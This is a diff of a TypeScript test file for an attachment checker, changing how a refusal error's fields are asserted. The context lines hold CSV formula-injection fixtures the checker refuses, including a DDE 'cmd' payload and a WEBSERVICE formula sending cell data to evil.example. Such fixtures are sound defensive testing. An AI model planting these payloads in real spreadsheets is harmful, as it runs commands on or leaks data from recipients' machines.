@@ -3,6 +3,7 @@ import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
 import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
 import { ZipFile } from 'yazl';
+import type { AppError } from '../errors';
 import { checkAttachment } from './content';
 
 /** A zip as office programs write it. */
@@ -140,9 +141,11 @@ describe('checkAttachment', async () => {
     ['the same in quotes and full width', 'a.csv', Buffer.from(`a\n"＋cmd|' /C calc'!A0"\n`)],
     ['a table that fetches', 'a.csv', Buffer.from('=WEBSERVICE("https://evil.example/?"&A1)\n')],
   ])('refuses %s', async (_what, name, bytes) => {
-    await expect(check(name, bytes)).rejects.toMatchObject({
+    const refusal = await check(name, bytes).catch((error: unknown) => error as AppError);
+    // A program reads the reason in the detail, a form at the field.
+    expect(refusal).toMatchObject({
       code: 'document_refused',
-      text: 'Please attach a PDF, an image (PNG, JPEG, WebP) or a spreadsheet (XLSX, XLS, ODS, CSV).',
+      fields: [{ field: 'file', text: (refusal as AppError).text }],
     });
   });
 
